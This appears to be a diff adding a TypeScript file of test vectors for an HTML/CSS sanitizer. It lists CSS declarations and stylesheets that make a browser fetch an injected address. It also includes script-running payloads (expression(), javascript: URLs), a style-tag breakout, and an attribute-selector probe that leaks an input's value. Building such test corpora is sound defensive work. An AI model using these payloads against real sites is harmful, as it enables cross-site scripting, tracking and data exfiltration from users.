@@ -1,0 +1,121 @@
+import type { Vector } from './types.ts';
+
+/** Declarations that fetch; `@` stands for the address. */
+const declarations: readonly string[] = [
+  'background:url(@/bg.png)',
+  'background-image:url("@/quoted.png")',
+  "background-image:url('@/single.png')",
+  'background-image:url( @/spaces.png )',
+  'BACKGROUND:URL(@/upper.png)',
+  'background:u\\72l(@/escape.png)',
+  'background:\\75\\72\\6c(@/escapes.png)',
+  'b\\61 ckground:url(@/property.png)',
+  'background:/**/url(@/comment.png)/**/',
+  'background:ur/**/l(@/split.png)',
+  'background:url(\\68ttp:@/scheme.png)',
+  'background:image-set(url(@/set.png) 1x)',
+  'background:image-set("@/string.png" 1x)',
+  'background:-webkit-image-set(url(@/webkit.png) 1x)',
+  'background:cross-fade(url(@/a.png),url(@/b.png),50%)',
+  'background:-webkit-cross-fade(url(@/c.png),url(@/d.png),50%)',
+  'background:linear-gradient(red,red),url(@/second.png)',
+  'background:src("@/src.png")',
+  'background:image(url(@/image.png))',
+  'background:element(#x)',
+  'background:url(@/x.png) !important',
+  'list-style:url(@/list.png) inside;display:list-item',
+  'list-style-image:url(@/list-image.png);display:list-item',
+  'border-image:url(@/border.png) 1',
+  'border-image-source:url(@/border-source.png)',
+  'content:url(@/content.png)',
+  'cursor:url(@/cursor.cur),auto',
+  'mask:url(@/mask.png)',
+  'mask-image:url(@/mask-image.png)',
+  '-webkit-mask-image:url(@/webkit-mask.png)',
+  '-webkit-mask-box-image:url(@/box.png)',
+  '-webkit-box-reflect:below 0 url(@/reflect.png)',
+  'clip-path:url(@/clip.svg#x)',
+  'filter:url(@/filter.svg#x)',
+  'backdrop-filter:url(@/backdrop.svg#x)',
+  'shape-outside:url(@/shape.png);float:left',
+  'offset-path:url(@/offset.svg#x)',
+  '--x:url(@/variable.png);background:var(--x)',
+  'background:var(--none,url(@/fallback.png))',
+  'background:env(none,url(@/env.png))',
+  'background:if(style(--x):url(@/if.png);else:url(@/else.png))',
+  '-moz-binding:url(@/binding.xml#x)',
+  'behavior:url(@/behavior.htc)',
+  '-o-link:"@/o-link";-o-link-source:current',
+];
+
+const sheets: readonly string[] = [
+  '@import url(@/import.css);',
+  '@import "@/string.css";',
+  "@import '@/single.css' screen;",
+  '@IMPORT URL(@/upper.css);',
+  '@\\69mport "@/escaped.css";',
+  '@import url(@/layer.css) layer(x) supports(display:block) screen;',
+  '<!-- @import "@/commented.css"; -->',
+  '@charset "utf-7"; @import "@/charset.css";',
+  '@font-face{font-family:f;src:url(@/font.woff2)} p{font-family:f}',
+  '@font-face{font-family:g;src:local(none),url(@/g.ttf) format("truetype");unicode-range:U+41} p{font-family:g}',
+  '@namespace svg url(@/namespace); p{color:red}',
+  '@media all{p{background:url(@/media.png)}}',
+  '@supports (display:block){p{background:url(@/supports.png)}}',
+  '@layer x{p{background:url(@/layered.png)}}',
+  '@container (min-width:0){p{background:url(@/container.png)}} body{container-type:inline-size}',
+  '@scope (body){p{background:url(@/scope.png)}}',
+  '@page{background:url(@/page.png)}',
+  '@counter-style c{system:cyclic;symbols:url(@/symbol.png)} p{display:list-item;list-style:c}',
+  '@property --p{syntax:"<image>";inherits:false;initial-value:url(@/property.png)} p{background:var(--p)}',
+  '@keyframes k{from{background:url(@/frame.png)}} p{animation:k 1s infinite}',
+  '@starting-style{p{background:url(@/starting.png)}}',
+  '@document url(http://x){p{background:url(@/document.png)}}',
+  'p::before{content:url(@/before.png)} p::after{content:"" ;background:url(@/after.png);display:block}',
+  'p::first-letter{background:url(@/letter.png)} p::marker{content:url(@/marker.png)} p{display:list-item}',
+  ':root{background:url(@/root.png)} html::backdrop{background:url(@/backdrop.png)}',
+  'input[value^="s"]{background:url(@/leak-s.png)} p:not(:visited){background:url(@/visited.png)}',
+  'p{&{background:url(@/nested.png)}}',
+  'body:has(p){background:url(@/has.png)}',
+  'p:hover{background:url(@/hover.png)} *{cursor:url(@/cursor.png),auto}',
+  '</style ><style>p{background:url(@/twice.png)}',
+  '::view-transition{background:url(@/transition.png)} @view-transition{navigation:auto}',
+];
+
+/** Style sheets and attributes that fetch, and those that once ran scripts. */
+export const styles: readonly Vector[] = [
+  ...declarations.map(
+    (css): Vector => [
+      `style ${css.slice(0, 36)}`,
+      ({ url }) =>
+        `<p style='${css.replaceAll('@', url).replaceAll("'", '&#39;')}'>x</p><style>p{${css.replaceAll('@', url)}}</style>`,
+    ],
+  ),
+  ...sheets.map(
+    (css): Vector => [
+      `sheet ${css.slice(0, 36)}`,
+      ({ url }) => `<style>${css.replaceAll(/@(?=\/)/g, url)}</style><p>x</p><input value=secret>`,
+    ],
+  ),
+  [
+    'expression',
+    ({ run }) =>
+      `<p style="width:expression(${run});xss:e/**/xpression(${run})">x</p><style>p{width:expr\\65ssion(${run})}</style>`,
+  ],
+  [
+    'javascript in a style',
+    ({ run }) => `<p style="background:url(javascript:${run});list-style:url('javascript:${run}')">x</p>`,
+  ],
+  [
+    'style of vectors',
+    ({ url }) => `<svg><style>@import "${url}/svg.css";</style></svg><svg><style>&#64;import "${url}/entity.css";</style></svg>`,
+  ],
+  [
+    'style by an attribute of old',
+    ({ url }) => `<p dynsrc="${url}/d.png" style="background-image:url(&quot;${url}/entity.png&quot;)">x</p>`,
+  ],
+  [
+    'style of a shadow',
+    ({ url }) => `<div><template shadowrootmode="open"><style>:host{background:url(${url}/host.png)}</style></template>x</div>`,
+  ],
+];
